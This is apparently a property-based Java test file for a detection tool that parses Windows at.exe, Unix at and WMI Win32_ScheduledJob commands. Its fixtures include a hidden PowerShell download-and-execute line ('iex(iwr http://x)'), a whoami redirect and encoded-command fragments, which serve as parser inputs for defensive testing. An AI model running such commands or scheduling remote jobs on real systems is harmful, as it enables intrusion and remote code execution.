package dev.atwatch.atjob;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.DayOfWeek;
import java.time.LocalTime;
import java.time.temporal.ChronoUnit;
import java.util.ArrayList;
import java.util.EnumSet;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.StringJoiner;
import java.util.TreeSet;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.constraints.IntRange;
import net.jqwik.api.constraints.LongRange;

class AtJobsPropertiesTest {

    /** Pieces of the three grammars, so that random input reaches deep into the parsers. */
    private static final List<String> FRAGMENTS =
            List.of(
                    "at",
                    "at.exe",
                    "C:\\Windows\\System32\\at.exe",
                    "/usr/bin/at",
                    "batch",
                    "atq",
                    "atrm",
                    "wmic",
                    "powershell",
                    "pwsh -c",
                    "cmd /c",
                    "sh -c",
                    "|",
                    "echo",
                    "\"",
                    "'",
                    "\\",
                    "\\\\",
                    "\\\\host",
                    "/interactive",
                    "/every:",
                    "/next:",
                    "M,T,Su,31",
                    "/delete",
                    "/yes",
                    "-f",
                    "-q",
                    "-t",
                    "-l",
                    "-r",
                    "-mf",
                    "--",
                    "now",
                    "+",
                    "-",
                    "1",
                    "13:20",
                    "4pm",
                    "noon",
                    "teatime",
                    "tomorrow",
                    "next",
                    "week",
                    "minutes",
                    "Jul",
                    "31",
                    "12/31/2026",
                    "2026-02-30",
                    "31.12.",
                    "UTC",
                    "job",
                    "call",
                    "create",
                    "delete",
                    "path",
                    "Win32_ScheduledJob",
                    "/node:",
                    "-ArgumentList",
                    "-Arguments",
                    "@{",
                    "@(",
                    "}",
                    ")",
                    "(",
                    ".Create(",
                    "[wmiclass]",
                    "Command=",
                    "StartTime=",
                    ",",
                    ";",
                    "$true",
                    "$x",
                    "********123000.000000-300",
                    "-Enc",
                    "AAAA",
                    "JAB4AD0AMQA=",
                    "99999999999",
                    "+ 999999999 years",
                    "-t 999912312359");

    @Provide
    Arbitrary<String> grammarLike() {
        Arbitrary<String> fragment =
                Arbitraries.oneOf(
                        Arbitraries.of(FRAGMENTS),
                        Arbitraries.strings().ofMaxLength(6),
                        Arbitraries.integers().between(0, 99).map(String::valueOf));
        Arbitrary<String> separator = Arbitraries.of(" ", "", ",", "  ", "\t");
        return Combinators.combine(fragment.list().ofMaxSize(16), separator.list().ofSize(16))
                .as(
                        (parts, separators) -> {
                            StringBuilder line = new StringBuilder();
                            for (int i = 0; i < parts.size(); i++) {
                                line.append(parts.get(i)).append(separators.get(i));
                            }
                            return line.toString();
                        });
    }

    @Property(tries = 1000)
    void grammarLikeInputNeverThrowsAndAlwaysExplainsItself(@ForAll("grammarLike") String line) {
        assertWellFormed(AtJobs.parseChecked(line));
        assertWellFormed(AtJobs.parseChecked(line, JobSyntax.WINDOWS_AT));
        assertWellFormed(AtJobs.parseChecked(line, JobSyntax.UNIX_AT));
    }

    @Property(tries = 1000)
    void anyStringNeverThrows(@ForAll String line) {
        assertWellFormed(AtJobs.parseChecked(line));
    }

    @Property(tries = 1000)
    void anyArgumentListNeverThrows(
            @ForAll("tools") String tool, @ForAll("argumentLists") List<String> args) {
        List<String> argv = new ArrayList<>();
        argv.add(tool);
        argv.addAll(args);

        assertWellFormed(AtJobs.parseUnixChecked(argv));
    }

    @Provide
    Arbitrary<String> tools() {
        return Arbitraries.of("at", "/usr/bin/at", "batch", "atq", "atrm", "crontab");
    }

    @Provide
    Arbitrary<List<String>> argumentLists() {
        return Arbitraries.oneOf(Arbitraries.of(FRAGMENTS), Arbitraries.strings().ofMaxLength(8))
                .list()
                .ofMaxSize(10);
    }

    private static void assertWellFormed(AtJobResult result) {
        if (result instanceof AtJobResult.NotAJob notAJob) {
            assertThat(notAJob.reason()).isNotBlank();
            return;
        }
        AtJob job = result.asJob().orElseThrow();
        assertThat(job.alertFields()).containsKeys(AtJob.FIELD_SYNTAX, AtJob.FIELD_INVOCATION);
        if (result instanceof AtJobResult.Partial partial) {
            assertThat(partial.problems())
                    .isNotEmpty()
                    .allSatisfy(
                            p -> {
                                assertThat(p.code()).isNotBlank();
                                assertThat(p.detail()).hasSizeLessThan(400);
                            });
        }
        job.fireWindow(0L, null);
        job.fireWindow(4_102_444_800L, java.time.ZoneOffset.ofHours(-11));
    }

    // Windows at.exe: generated jobs read back to what was generated.

    @Provide
    Arbitrary<String> hosts() {
        return Arbitraries.oneOf(
                Arbitraries.just(null),
                Arbitraries.strings()
                        .withCharRange('a', 'z')
                        .numeric()
                        .withChars('-')
                        .ofMinLength(1)
                        .ofMaxLength(15),
                Arbitraries.of("10.0.0.5", "fs02.offsec.lan"));
    }

    @Provide
    Arbitrary<String> windowsCommands() {
        return Arbitraries.of(
                "cmd",
                "cmd /c whoami > c:\\out.txt",
                "\"C:\\Program Files\\App\\run.exe\" -x",
                "powershell -nop -w hidden -c iex(iwr http://x)",
                "c:\\tools\\nightly.bat",
                "notepad.exe");
    }

    @Property(tries = 500)
    void windowsJobsRoundTrip(
            @ForAll("hosts") String host,
            @ForAll @IntRange(max = 23) int hour,
            @ForAll @IntRange(max = 59) int minute,
            @ForAll boolean interactive,
            @ForAll JobRecurrence.Mode mode,
            @ForAll Set<DayOfWeek> weekdays,
            @ForAll Set<@IntRange(min = 1, max = 31) Integer> monthDays,
            @ForAll("windowsCommands") String command) {
        boolean listed =
                mode != JobRecurrence.Mode.ONCE && !(weekdays.isEmpty() && monthDays.isEmpty());
        JobRecurrence recurrence =
                listed
                        ? new JobRecurrence(mode, weekdays, new TreeSet<>(monthDays))
                        : JobRecurrence.ONCE;
        StringBuilder line = new StringBuilder("at");
        if (host != null) {
            line.append(" \\\\").append(host);
        }
        line.append(String.format(Locale.ROOT, " %d:%02d", hour, minute));
        if (interactive) {
            line.append(" /interactive");
        }
        if (listed) {
            line.append(" /").append(recurrence.describe());
        }
        line.append(' ').append(command);

        AtJobResult result = AtJobs.parseChecked(line.toString());

        assertThat(result).as(line.toString()).isInstanceOf(AtJobResult.Parsed.class);
        AtJob job = result.asJob().orElseThrow();
        assertThat(job.syntax()).isEqualTo(JobSyntax.WINDOWS_AT);
        assertThat(job.target()).isEqualTo(host);
        assertThat(job.time().clock()).isEqualTo(LocalTime.of(hour, minute));
        assertThat(job.interactive()).isEqualTo(interactive);
        assertThat(job.recurrence()).isEqualTo(recurrence);
        assertThat(job.command()).isEqualTo(command);
    }

    // Unix at(1): generated time specifications read back to their parts.

    @Property(tries = 500)
    void unixJobsRoundTrip(
            @ForAll("clockWords") ClockWord clock,
            @ForAll("dates") DateWord date,
            @ForAll("shifts") ShiftWord shift,
            @ForAll("queues") String queue,
            @ForAll boolean fromFile) {
        StringJoiner spec = new StringJoiner(" ");
        if (clock == null && date == null) {
            spec.add("now");
        }
        if (clock != null) {
            spec.add(clock.text());
        }
        if (date != null) {
            spec.add(date.text());
        }
        if (shift != null) {
            spec.add(shift.text());
        }
        List<String> argv = new ArrayList<>(List.of("at"));
        if (queue != null) {
            argv.addAll(List.of("-q", queue));
        }
        if (fromFile) {
            argv.addAll(List.of("-f", "/tmp/job.sh"));
        }
        argv.addAll(List.of(spec.toString().split(" ")));

        AtJobResult result = AtJobs.parseUnixChecked(argv);

        AtJob job = result.asJob().orElseThrow();
        assertThat(result.problems()).as(argv.toString()).hasSize(fromFile ? 0 : 1);
        assertThat(job.time()).as(argv.toString()).isNotNull();
        assertThat(job.time().clock()).isEqualTo(clock == null ? null : clock.time());
        assertThat(job.time().date()).isEqualTo(date == null ? null : date.spec());
        assertThat(job.time().shift()).isEqualTo(shift == null ? null : shift.shift());
        assertThat(job.queue()).isEqualTo(queue);
        assertThat(job.command()).isEqualTo(fromFile ? "/tmp/job.sh" : null);
    }

    record ClockWord(String text, LocalTime time) {}

    record DateWord(String text, JobTime.DateSpec spec) {}

    record ShiftWord(String text, JobTime.Shift shift) {}

    @Provide
    Arbitrary<ClockWord> clockWords() {
        Arbitrary<Integer> hours = Arbitraries.integers().between(0, 23);
        Arbitrary<Integer> minutes = Arbitraries.integers().between(0, 59);
        Arbitrary<ClockWord> colon =
                Combinators.combine(hours, minutes)
                        .as(
                                (h, m) ->
                                        new ClockWord(
                                                h + ":" + String.format(Locale.ROOT, "%02d", m),
                                                LocalTime.of(h, m)));
        Arbitrary<ClockWord> fourDigits =
                Combinators.combine(hours, minutes)
                        .as(
                                (h, m) ->
                                        new ClockWord(
                                                String.format(Locale.ROOT, "%02d%02d", h, m),
                                                LocalTime.of(h, m)));
        Arbitrary<ClockWord> meridiem =
                Combinators.combine(
                                Arbitraries.integers().between(1, 12),
                                Arbitraries.of("am", "pm", "AM", " PM"))
                        .as(
                                (h, ap) ->
                                        new ClockWord(
                                                h + ap,
                                                LocalTime.of(
                                                        h % 12
                                                                + (ap.strip().equalsIgnoreCase("pm")
                                                                        ? 12
                                                                        : 0),
                                                        0)));
        Arbitrary<ClockWord> named =
                Arbitraries.of(
                        new ClockWord("noon", LocalTime.NOON),
                        new ClockWord("midnight", LocalTime.MIDNIGHT),
                        new ClockWord("teatime", LocalTime.of(16, 0)));
        return Arbitraries.oneOf(Arbitraries.just(null), colon, fourDigits, meridiem, named);
    }

    @Provide
    Arbitrary<DateWord> dates() {
        Arbitrary<DateWord> relative =
                Arbitraries.of(
                        new DateWord("today", new JobTime.RelativeDay(0)),
                        new DateWord("tomorrow", new JobTime.RelativeDay(1)));
        Arbitrary<DateWord> weekday =
                Arbitraries.of(DayOfWeek.class)
                        .map(
                                d ->
                                        new DateWord(
                                                d.name().toLowerCase(Locale.ROOT),
                                                new JobTime.Weekday(d)));
        Arbitrary<Integer> years = Arbitraries.integers().between(2000, 2069);
        Arbitrary<Integer> months = Arbitraries.integers().between(1, 12);
        Arbitrary<Integer> days = Arbitraries.integers().between(1, 28);
        Arbitrary<DateWord> slashed =
                Combinators.combine(years, months, days)
                        .as(
                                (y, m, d) ->
                                        new DateWord(
                                                m + "/" + d + "/" + y,
                                                new JobTime.CalendarDay(y, m, d)));
        Arbitrary<DateWord> iso =
                Combinators.combine(years, months, days)
                        .as(
                                (y, m, d) ->
                                        new DateWord(
                                                String.format(Locale.ROOT, "%d-%02d-%02d", y, m, d),
                                                new JobTime.CalendarDay(y, m, d)));
        Arbitrary<DateWord> named =
                Combinators.combine(months, days)
                        .as(
                                (m, d) ->
                                        new DateWord(
                                                java.time.Month.of(m).name().substring(0, 3)
                                                        + " "
                                                        + d,
                                                new JobTime.CalendarDay(null, m, d)));
        return Arbitraries.oneOf(Arbitraries.just(null), relative, weekday, slashed, iso, named);
    }

    @Provide
    Arbitrary<ShiftWord> shifts() {
        Arbitrary<ChronoUnit> units =
                Arbitraries.of(
                        ChronoUnit.MINUTES,
                        ChronoUnit.HOURS,
                        ChronoUnit.DAYS,
                        ChronoUnit.WEEKS,
                        ChronoUnit.MONTHS,
                        ChronoUnit.YEARS);
        Arbitrary<ShiftWord> plus =
                Combinators.combine(
                                Arbitraries.integers().between(1, 500),
                                units,
                                Arbitraries.of("+ ", "+"))
                        .as(
                                (n, unit, sign) ->
                                        new ShiftWord(
                                                sign
                                                        + n
                                                        + " "
                                                        + unit.name().toLowerCase(Locale.ROOT),
                                                new JobTime.Shift(n, unit)));
        return Arbitraries.oneOf(Arbitraries.just(null), plus);
    }

    @Provide
    Arbitrary<String> queues() {
        return Arbitraries.oneOf(
                Arbitraries.just(null), Arbitraries.chars().range('a', 'z').map(String::valueOf));
    }

    @Property(tries = 200)
    void nowPlusMinutesFiresThatManyWholeMinutesLater(
            @ForAll @LongRange(min = 0, max = 4_000_000_000L) long event,
            @ForAll @IntRange(min = 0, max = 100_000) int minutes) {
        AtJob job = AtJobs.parseChecked("at now + " + minutes + " minutes").asJob().orElseThrow();

        FireWindow window = job.fireWindow(event, null).orElseThrow();

        assertThat(window.earliest()).isEqualTo(event - event % 60 + minutes * 60L);
        assertThat(window.offsetKnown()).isTrue();
    }

    // Win32_ScheduledJob.Create: every way of writing the call reads back to its arguments.

    /** Each way of calling Win32_ScheduledJob.Create, with placeholders for the arguments. */
    private static final List<String> SCHEDULED_JOB_CALLS =
            List.of(
                    "wmic job call create \"{wmic}\",\"{start}\",{repeat},{dow},{dom},{interact}",
                    "wmic path Win32_ScheduledJob call create DaysOfMonth={dom},"
                            + "Command=\"{wmic}\",InteractWithDesktop={interact},"
                            + "StartTime=\"{start}\",DaysOfWeek={dow},RunRepeatedly={repeat}",
                    "powershell -c \"Invoke-WmiMethod -Class Win32_ScheduledJob -Name Create"
                            + " -ArgumentList '{ps}','{start}',${repeat},{dow},{dom},${interact}\"",
                    "pwsh -Command \"([wmiclass]'Win32_ScheduledJob').Create('{ps}', '{start}',"
                            + " ${repeat}, {dow}, {dom}, ${interact})\"",
                    "powershell -c \"Invoke-CimMethod -ClassName Win32_ScheduledJob"
                            + " -MethodName Create -Arguments @{Command='{ps}';"
                            + " StartTime='{start}';"
                            + " RunRepeatedly=${repeat}; DaysOfWeek={dow}; DaysOfMonth={dom};"
                            + " InteractWithDesktop=${interact}}\"");

    @Property(tries = 500)
    void scheduledJobCallsRoundTrip(
            @ForAll("windowsCommands") String command,
            @ForAll @IntRange(max = 23) int hour,
            @ForAll @IntRange(max = 59) int minute,
            @ForAll @IntRange(min = -720, max = 840) int offset,
            @ForAll boolean repeat,
            @ForAll @IntRange(max = 127) int daysOfWeek,
            @ForAll @IntRange(max = 0x7FFF_FFFF) int daysOfMonth,
            @ForAll boolean interact,
            @ForAll @IntRange(max = 4) int form) {
        String start =
                String.format(
                        Locale.ROOT,
                        "********%02d%02d00.000000%s%03d",
                        hour,
                        minute,
                        offset < 0 ? "-" : "+",
                        Math.abs(offset));
        // wmic doubles quotes inside "..."; PowerShell doubles them inside '...', and the
        // process command line escapes the script's own double quotes as \".
        String wmicCommand = command.replace("\"", "\"\"");
        String psCommand = command.replace("'", "''").replace("\"", "\\\"");
        String line =
                SCHEDULED_JOB_CALLS
                        .get(form)
                        .replace("{wmic}", wmicCommand)
                        .replace("{ps}", psCommand)
                        .replace("{start}", start)
                        .replace("{repeat}", Boolean.toString(repeat))
                        .replace("{dow}", Integer.toString(daysOfWeek))
                        .replace("{dom}", Integer.toString(daysOfMonth))
                        .replace("{interact}", Boolean.toString(interact));

        AtJobResult result = AtJobs.parseChecked(line);

        assertThat(result).as(line).isInstanceOf(AtJobResult.Parsed.class);
        AtJob job = result.asJob().orElseThrow();
        assertThat(job.syntax()).isEqualTo(JobSyntax.WMI_SCHEDULED_JOB);
        assertThat(job.command()).as(line).isEqualTo(command);
        assertThat(job.time().clock()).isEqualTo(LocalTime.of(hour, minute));
        assertThat(job.time().utcOffsetMinutes()).isEqualTo(offset);
        assertThat(job.interactive()).isEqualTo(interact);
        assertThat(job.recurrence()).isEqualTo(expectedRecurrence(repeat, daysOfWeek, daysOfMonth));
    }

    private static JobRecurrence expectedRecurrence(
            boolean repeat, int daysOfWeek, int daysOfMonth) {
        Set<DayOfWeek> weekdays = EnumSet.noneOf(DayOfWeek.class);
        for (int bit = 0; bit < 7; bit++) {
            if ((daysOfWeek & (1 << bit)) != 0) {
                weekdays.add(DayOfWeek.of(bit + 1));
            }
        }
        TreeSet<Integer> monthDays = new TreeSet<>();
        for (int bit = 0; bit < 31; bit++) {
            if ((daysOfMonth & (1 << bit)) != 0) {
                monthDays.add(bit + 1);
            }
        }
        if (weekdays.isEmpty() && monthDays.isEmpty()) {
            return JobRecurrence.ONCE;
        }
        return new JobRecurrence(
                repeat ? JobRecurrence.Mode.EVERY : JobRecurrence.Mode.NEXT, weekdays, monthDays);
    }
}
